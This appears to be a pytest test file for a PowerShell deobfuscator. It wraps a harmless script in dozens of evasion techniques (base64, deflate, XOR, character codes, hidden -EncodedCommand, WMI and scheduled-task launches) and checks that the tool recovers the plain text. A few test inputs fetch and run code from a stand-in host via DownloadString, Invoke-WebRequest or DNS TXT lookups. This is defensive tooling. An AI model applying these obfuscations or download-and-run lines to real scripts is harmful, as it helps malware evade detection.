"""Scripts inside of scripts: every way of wrapping gives the plain text back."""

import base64
import gzip
import zlib

import pytest

from pipeline.analysis.unwrapping import unwrap

PLAIN = "Write-Host 'hello world'; $total = 1 + 2\nGet-ChildItem C:\\Temp | Where-Object { $_.Length -gt 10 }"


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _base64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _deflated(text: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return _base64(packer.compress(text.encode()) + packer.flush())


def _codes(text: str, style: str = "{}", between: str = ",") -> str:
    return between.join(style.format(ord(char)) for char in text)


TEXT = _quoted(PLAIN)
GZIPPED = _base64(gzip.compress(PLAIN.encode(), mtime=0))
BASE64 = _quoted(_base64(PLAIN.encode()))
ENCODED = _base64(PLAIN.encode("utf-16-le"))
BACKWARDS = _quoted(PLAIN[::-1])

INVOKED = {
    "Invoke-Expression": f"Invoke-Expression {TEXT}",
    "by parameter": f"iex -Command {TEXT}",
    "random case": f"iNvOkE-eXpReSsIoN {TEXT}",
    "put together": f"&('i'+'ex') {TEXT}",
    "format": f"&(\"{{1}}{{0}}\"-f'x','ie') {TEXT}",
    "letters of the environment": f".($env:ComSpec[4,24,25]-join'') {TEXT}",
    "letters of a variable": f"&($ShellId[1]+$ShellId[13]+'x') {TEXT}",
    "letters of a folder": f'&($PSHome[21]+$PSHome[34]+"x") {TEXT}',
    "letters of a preference": f"{TEXT}|.($VerbosePreference.ToString()[1,3]+'x'-join'')",
    "letters of a variable's name": f"&((Variable '*mdr*').Name[3,11,2]-join'') {TEXT}",
    "alias by pattern": f"&(gal i?x) {TEXT}",
    "command by pattern": f"{TEXT}|&(gcm *ke-exp*)",
    "piped": f"({TEXT})|Invoke-Expression",
    "piped item by item": f"{TEXT}|%{{iex $_}}",
    "variable": f"$x = {TEXT}; iex $x",
    "own alias": f"Set-Alias -Name zz -Value Invoke-Expression; zz {TEXT}",
    "own alias, put together": f"sal zz ('i'+'ex'); zz {TEXT}",
    "script block": f"&([scriptblock]::Create({TEXT}))",
    "script block, invoked": f"[scriptblock]::Create({TEXT}).Invoke()",
    "Invoke-Command": f"Invoke-Command -ScriptBlock ([scriptblock]::Create({TEXT}))",
    "InvokeScript": f"$ExecutionContext.InvokeCommand.InvokeScript({TEXT})",
    "NewScriptBlock": f".($ExecutionContext.InvokeCommand.NewScriptBlock({TEXT}))",
    "AddScript": f"[powershell]::Create().AddScript({TEXT}).Invoke()",
    "here-string": f"iex @'\n{PLAIN}\n'@",
    "environment": f"$env:zz = {TEXT}; iex $env:zz",
    "Set-Variable": f"Set-Variable qq {TEXT}; iex (Get-Variable qq).Value",
    "Set-Item": f"Set-Item variable:qq {TEXT}; iex (Get-Item variable:qq).Value",
    "in a function": f"function Go {{ param($t) iex $t }}\nGo {TEXT}",
    "in a function, global": f"$g = {TEXT}\nfunction Go {{ iex $g }}\nGo",
    "in a job": f"Start-Job {{ iex {TEXT} }}",
    "in a loop without end": f"while ($true) {{ iex {TEXT}; Start-Sleep 5 }}",
    "after what is unknown": f"if ((Get-Random) -gt 5) {{ Write-Host x }}\ntry {{ iex {TEXT} }} catch {{ }}",
    "in a catch": f"try {{ $p = {TEXT}; throw 'x' }} catch {{ iex $p }}",
    "behind a known condition": f"if (1 -eq 1) {{ $p = {TEXT} }} else {{ $p = 'no' }}; iex $p",
}

STARTED = {
    "-EncodedCommand": f"powershell.exe -NoP -W Hidden -EncodedCommand {ENCODED}",
    "-e": f"pwsh -e {ENCODED}",
    "/enco": f"powershell /enco {ENCODED}",
    "quoted": f'powershell -enc "{ENCODED}"',
    "from a variable": f"$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes({TEXT})); powershell -nop -enc $e",
    "path": f'& "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -noni -ec {ENCODED}',
    "-c": f"powershell -nop -c {TEXT}",
    "block": f"powershell -Command {{{PLAIN}}}",
    "standard input": f"{TEXT} | powershell -noprofile -",
    "cmd": f'cmd /c "powershell -w hidden -enc {ENCODED}"',
    "cmd with carets": f'cmd.exe /c "p^o^w^e^rshell -e {ENCODED}"',
    "Start-Process": f"Start-Process powershell -ArgumentList '-nop','-enc','{ENCODED}'",
    "Process.Start": f"[Diagnostics.Process]::Start('powershell','-enc {ENCODED}')",
    "ProcessStartInfo": f"$s = New-Object System.Diagnostics.ProcessStartInfo; $s.Arguments = '-nop -enc {ENCODED}'",
    "WScript.Shell": f"(New-Object -ComObject WScript.Shell).Run('powershell -enc {ENCODED}', 0)",
    "WMI": f"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -enc {ENCODED}'",
    "scheduled task": f"schtasks /create /tn x /tr 'powershell -enc {ENCODED}'",
}

WRAPPED = {
    "base64": f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String({BASE64})))",
    "base64 in pieces": f"$a = {_quoted(ENCODED[:90])}; $b = {_quoted(ENCODED[90:])}; iex ([Text.Encoding]::Unicode.GetString("
                        "[Convert]::FromBase64String($a + $b)))",
    "type by name": f"$c = [type]('Con'+'vert'); iex ([Text.Encoding]::UTF8.GetString($c::FromBase64String({BASE64})))",
    "methods by name": f"iex ([Text.Encoding]::('UT'+'F8').('GetS'+'tring')([Convert]::(\"{{1}}{{0}}\"-f'Base64String','From')({BASE64})))",
    "methods as values": f"iex ([Text.Encoding]::UTF8.GetString.Invoke([Convert]::FromBase64String.Invoke({BASE64})))",
    "deflate": f"iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("
               f"'{_deflated(PLAIN)}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()",
    "gzip, a stream in a variable": f"$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{GZIPPED}'));"
                                    "iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
                                    "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
    "line by line": f"$r = New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String("
                    f"'{_deflated(PLAIN)}'),'Decompress')); while ($l = $r.ReadLine()) {{ $t += $l + \"`n\" }}; iex $t",
    "concatenation": f"iex ({_quoted(PLAIN[:9])}+{_quoted(PLAIN[9:30])}+{_quoted(PLAIN[30:])})",
    "concatenation, statement by statement": f"$x = ''; $x += {_quoted(PLAIN[:9])}; $x += {_quoted(PLAIN[9:])}; iex $x",
    "-f": f"iex ('{{1}}{{0}}' -f {_quoted(PLAIN[25:])},{_quoted(PLAIN[:25])})",
    "replacements": "iex (" + _quoted(PLAIN.replace("'", "~q").replace("$", "~d")) + ".Replace('~q',[string][char]39).Replace('~d','$'))",
    "-replace": "iex (" + _quoted(PLAIN.replace("'", "~q")) + " -creplace '~q',[char]39)",
    "-replace by a script block": "iex (" + _quoted(PLAIN.replace("e", "@")) + " -replace '@',{ 'e' })",
    "character codes": f"iex (-join(({_codes(PLAIN)})|%{{[char]$_}}))",
    "character codes, cast": f"iex ([string]::new([char[]]({_codes(PLAIN)})))",
    "character codes, $OFS": f"$OFS = ''; iex ([string][char[]]({_codes(PLAIN)}))",
    "character codes, split": "iex (('" + _codes(PLAIN, between="~") + "'-split'~'|%{[char][int]$_})-join'')",
    "character codes, several separators": "iex (('" + _codes(PLAIN, between="V") + "'.Split('V~')|%{[char][int]$_})-join'')",
    "hexadecimal": f"iex (-join('{PLAIN.encode().hex()}' -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt16($_,16)}}))",
    "hexadecimal, by hand": f"$h = '{PLAIN.encode().hex()}'; for ($i = 0; $i -lt $h.Length; $i += 2) "
                            "{ $r += [char][Convert]::ToInt32($h.Substring($i, 2), 16) }; iex $r",
    "octal": "iex (-join('" + _codes(PLAIN, "{:o}", " ") + "'.Split(' ')|%{[char][convert]::ToInt32($_,8)}))",
    "binary": "iex (-join('" + _codes(PLAIN, "{:b}", " ") + "' -split ' '|%{[char][convert]::ToInt32($_,2)}))",
    "-bxor": f"iex (-join(({','.join(str(ord(char) ^ 42) for char in PLAIN)})|%{{[char]($_ -bxor 42)}}))",
    "-bxor with a key": "$k = 'key'; $d = [Convert]::FromBase64String('"
                        + _base64(bytes(byte ^ b"key"[at % 3] for at, byte in enumerate(PLAIN.encode())))
                        + "'); for ($i = 0; $i -lt $d.Length; $i++) { $d[$i] = $d[$i] -bxor $k[$i % $k.Length] };"
                          " iex ([Text.Encoding]::UTF8.GetString($d))",
    "a function that decodes": "function Undo([string]$s, [int]$k) { $r = ''; foreach ($c in $s.ToCharArray()) { $r += [char]([int]$c -bxor $k) }; "
                               f"return $r }}\niex (Undo {_quoted(''.join(chr(ord(char) ^ 3) for char in PLAIN))} 3)",
    "shifted letters": "iex (-join(" + _quoted("".join(chr(ord(char) + 4) for char in PLAIN)) + ".ToCharArray()|%{[char]([int]$_-4)}))",
    "reversed by index": f"$z = {BACKWARDS}; iex ($z[-1..-$z.Length] -join '')",
    "reversed in place": f"$z = {BACKWARDS}.ToCharArray(); [array]::Reverse($z); iex (-join $z)",
    "reversed by matches": f"iex ([string]::Join('',([regex]::Matches({BACKWARDS},'(?s).','RightToLeft')|%{{$_.Value}})))",
    "table": f"$t = @{{ 1 = {_quoted(PLAIN[:30])}; 2 = {_quoted(PLAIN[30:])} }}; iex ($t[1] + $t[2])",
    "StringBuilder": f"$b = New-Object Text.StringBuilder; [void]$b.Append({_quoted(PLAIN[:9])}).Append({_quoted(PLAIN[9:])}); iex $b.ToString()",
    "inserted": f"iex ({_quoted(PLAIN[:10] + PLAIN[14:])}.Insert(10, {_quoted(PLAIN[10:14])}))",
}


def _squeezed(text: str) -> str:
    return "".join(text.split()).lower()


@pytest.mark.parametrize("wrapped", [*INVOKED.values(), *STARTED.values(), *WRAPPED.values()], ids=[*INVOKED, *STARTED, *WRAPPED])
def test_plain_text_comes_out(wrapped: str) -> None:
    assert _squeezed(PLAIN) in [_squeezed(layer.text) for layer in unwrap(wrapped).layers]


def test_letters_of_special_characters() -> None:
    """Numbers come from `+$()`, letters out of what a table and `$?` say of themselves, the name of a command out of a method's."""
    digits = dict(zip("0123456789", ("${=}", "${+}", "${@}", "${.}", "${[}", "${]}", "${(}", "${)}", "${&}", "${|}"), strict=True))
    counted = "${;}=+$();${=}=${;};" + "".join(f"{name}=++${{;}};" for name in list(digits.values())[1:])
    char = '${%}="["+"$(@{})"[${)}]+"$(@{})"["${+}${|}"]+"$(@{})"["${@}${=}"]+"$?"[${+}]+"]";'
    insert = '${;}="".("$(@{})"["${+}${[}"]+"$(@{})"["${+}${(}"]+"$(@{})"[${=}]+"$(@{})"[${[}]+"$?"[${+}]+"$(@{})"[${.}]);'
    iex = '${;}="$(@{})"["${+}${[}"]+"$(@{})"[${[}]+"${;}"["${@}${)}"];'
    codes = "+".join("${%}" + "".join(digits[digit] for digit in str(ord(char_))) for char_ in PLAIN)
    layers = unwrap(f'{counted}{char}{insert}{iex}"{codes}|${{;}}"|&${{;}}').layers
    assert layers[-1].text == PLAIN


def test_layers_within_layers() -> None:
    middle = f"iex {TEXT}"
    found = unwrap(f"powershell -enc {_base64(middle.encode('utf-16-le'))}").layers
    assert [(layer.text, layer.depth, layer.parent) for layer in found] == [(middle, 1, None), (PLAIN, 2, 0)]
    assert [layer.how for layer in found] == ["powershell -EncodedCommand", "Invoke-Expression"]


HOW = {
    "deflate": "Invoke-Expression: deflate, base64",
    "-bxor": "Invoke-Expression: -bxor, character codes, -join",
    "-f": "Invoke-Expression: -f",
    "reversed in place": "Invoke-Expression: reversed text, characters, -join",
}


@pytest.mark.parametrize("name", HOW)
def test_how_it_was_wrapped(name: str) -> None:
    assert unwrap(WRAPPED[name]).layers[0].how == HOW[name]


def test_what_a_layer_sets_is_there_for_what_follows() -> None:
    script = "iex '$key = 35'\niex (-join((" + ",".join(str(ord(char) ^ 35) for char in PLAIN) + ")|%{[char]($_ -bxor $key)}))"
    assert [layer.text for layer in unwrap(script).layers] == ["$key = 35", PLAIN]


IN_PLACE = [
    ("I`E`X 'Get-Thing 1'", "IEX 'Get-Thing 1'", "backticks"),
    ('$c."Down`loadStr`ing"($u)', '$c."DownloadString"($u)', "backticks"),
    ("&('Get-'+'ChildItem') -Path C:\\x", "Get-ChildItem -Path C:\\x", "words put together"),
    ("$c.('Down'+'loadString')(('ht'+'tp://x/'))", "$c.DownloadString('http://x/')", "words put together"),
    ("New-Object (\"{0}{2}{1}\" -f 'Net.','ient','WebCl')", "New-Object Net.WebClient", "words put together"),
    ("Write-Host ([char]104+[char]105)", "Write-Host 'hi'", "words put together"),
]


@pytest.mark.parametrize(("script", "tidy", "how"), IN_PLACE)
def test_words_in_place(script: str, tidy: str, how: str) -> None:
    first = unwrap(script).layers[0]
    assert (first.text, first.how) == (tidy, how)


ORDINARY = [
    "Get-ChildItem | Where-Object { $_.Length -gt 10 }",
    "$path = 'C:\\' + 'Temp'; Write-Host \"a`tb $path`Copy\"",
    "& $exe --version",
    "$sb = { param($x) $x }; & $sb 5",
    "[System.Collections.Generic.List`1[string]]::new()",
    '"Use `Install-Module` to install it, then start powershell and try again"',
    "Write-Host 'powershell -enc SQBFAFgAIAAxAA=='",
    "'{0} items of {1}' -f 3, 4",
    "# iex 'Get-Thing'\n<# powershell -enc SQBFAFgAIAAxAA== #>\nGet-Process",
]


@pytest.mark.parametrize("script", ORDINARY)
def test_nothing_is_wrapped(script: str) -> None:
    assert unwrap(script).layers == []


UNKNOWN = [
    "iex (New-Object Net.WebClient).DownloadString('http://x.example/')",
    "$t = Invoke-WebRequest http://x.example/; Invoke-Expression $t.Content",
    "if ((nslookup -q=txt x.example) -match '@(.*)@') { iex $matches[1] }",
]


@pytest.mark.parametrize("script", UNKNOWN)
def test_what_comes_from_the_network_is_said(script: str) -> None:
    found = unwrap(script)
    assert found.layers == []
    assert found.notes == ["What line 1 runs depends on the network: it is not in the script."]


BRANCHES = [
    ("if ($PSBoundParameters.A) { $x = 'one 1' } else { $x = 'two 2' }; iex $x", []),  # which one is not known
    ("$x = 'one 1'; if ($args) { $x = 'two 2'; iex $x }; iex $x", ["two 2"]),
    ("foreach ($n in Get-Content names.txt) { iex 'same 1' }", ["same 1"]),
    ("$x = 'a 1'; $x = Get-Content file; iex $x", []),
    ('$i = 0; while ($true) { $i++; iex "step $i"; if ($i -ge 3) { break } }', ["step 1", "step 2", "step 3"]),
]


@pytest.mark.parametrize(("script", "texts"), BRANCHES)
def test_what_is_not_known_is_not_guessed(script: str, texts: list[str]) -> None:
    assert [layer.text for layer in unwrap(script).layers] == texts


def test_a_loop_that_only_waits_is_left() -> None:
    found = unwrap("for (;;) { Start-Sleep 60 }; iex 'after 1'")
    assert ([layer.text for layer in found.layers], found.limits) == (["after 1"], [])
